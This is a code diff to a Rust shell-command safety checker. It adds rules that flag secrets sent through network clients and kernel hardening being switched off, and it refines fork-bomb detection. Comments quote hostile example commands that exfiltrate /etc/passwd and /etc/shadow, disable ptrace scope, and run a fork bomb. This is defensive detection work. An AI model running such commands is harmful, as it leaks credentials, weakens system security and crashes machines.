@@ -560,6 +560,75 @@ fn line_rules(a: &Analysis, parts: &mut [Judged]) {
             );
         }
     }
+    // `curl -d "$(cat /etc/passwd)" URL`, `whois -h host "$(base64 /etc/shadow)"`: a
+    // substitution that reads system files or secrets, sent in a network client's arguments.
+    for y in 0..n {
+        if !judge::is_lookup_client(name(y)) || !a.feeds.iter().any(|&(_, z)| z == y) {
+            continue;
+        }
+        // The substitutions' commands, and what feeds or pipes into them (nested ones).
+        let mut fed = vec![false; n];
+        for &(x, z) in &a.feeds {
+            if z == y
+                && let Some(f) = fed.get_mut(x)
+            {
+                *f = true;
+            }
+        }
+        for _ in 0..4 {
+            for &(x, z) in a.feeds.iter().chain(&a.pipes) {
+                if fed.get(z).copied().unwrap_or(false)
+                    && let Some(f) = fed.get_mut(x)
+                {
+                    *f = true;
+                }
+            }
+        }
+        let class = (0..n)
+            .filter(|&x| x != y && fed.get(x).copied().unwrap_or(false))
+            .filter_map(|x| a.commands.get(x).map(judge::fed_data_class))
+            .max()
+            .unwrap_or(0);
+        if let Some(j) = parts.get_mut(y).filter(|_| class > 0) {
+            j.findings.push(Finding {
+                rule: "net.exfil-substitution",
+                decision: if class >= 2 {
+                    Decision::Deny
+                } else {
+                    Decision::Ask
+                },
+                risk: if class >= 2 { Risk::Critical } else { Risk::High },
+                caps: Capabilities::NETWORK_UPLOAD | Capabilities::READS_SENSITIVE,
+                reason: if class >= 2 {
+                    "the output of a command that reads system files, secrets or the environment is sent to a remote host"
+                } else {
+                    "the output of a command that reads a home file is sent to a remote host"
+                },
+                alternative: None,
+            });
+        }
+    }
+    // `echo 0 | tee /proc/sys/kernel/yama/ptrace_scope`: the piped value turns a kernel
+    // hardening setting off.
+    for &(x, y) in &a.pipes {
+        let (Some(cx), Some(cy)) = (a.commands.get(x), a.commands.get(y)) else {
+            continue;
+        };
+        if name(y) == "tee"
+            && cy.args().any(|t| {
+                t.starts_with("/proc/sys/")
+                    && judge::weakens_kernel_knob(t, judge::echoed_value(cx).as_deref())
+            })
+        {
+            deny(
+                parts,
+                y,
+                "security.disable",
+                "turns off a kernel hardening setting (ASLR, ptrace scope, pointer or log restrictions, module or BPF lock-down)",
+                Capabilities::SYSTEM_MODIFICATION | Capabilities::REQUIRES_ROOT,
+            );
+        }
+    }
     fork_bomb(a, parts);
     downloaded_then_run(a, parts);
     for &(x, y) in &a.pipes {
@@ -639,12 +708,20 @@ fn fork_bomb(a: &Analysis, parts: &mut [Judged]) {
         if nx != ny || nx.is_empty() || cx.argv.len() > 1 || cy.argv.len() > 1 {
             continue;
         }
-        if nx != ":" && toolcap_catalog::lookup(nx).is_some() {
-            continue;
-        }
         let calls: Vec<usize> = (0..a.commands.len())
             .filter(|&i| a.commands.get(i).and_then(|c| c.static_name()) == Some(nx))
             .collect();
+        // A real program's name (`ls(){ ls|ls& };ls`) needs the whole shape: the pair starts a
+        // pipeline of its own and ends it, and a later bare call outside any pipe starts it.
+        if nx != ":" && toolcap_catalog::lookup(nx).is_some() {
+            let piped = |i: usize| a.pipes.iter().any(|&(p, q)| p == i || q == i);
+            let bare_call = calls.iter().any(|&i| {
+                i > y && !piped(i) && a.commands.get(i).is_some_and(|c| c.argv.len() <= 1)
+            });
+            if cx.stdin != Source::Inherited || a.pipes.iter().any(|&(p, _)| p == y) || !bare_call {
+                continue;
+            }
+        }
         if calls.len() < 3 {
             continue;
         }
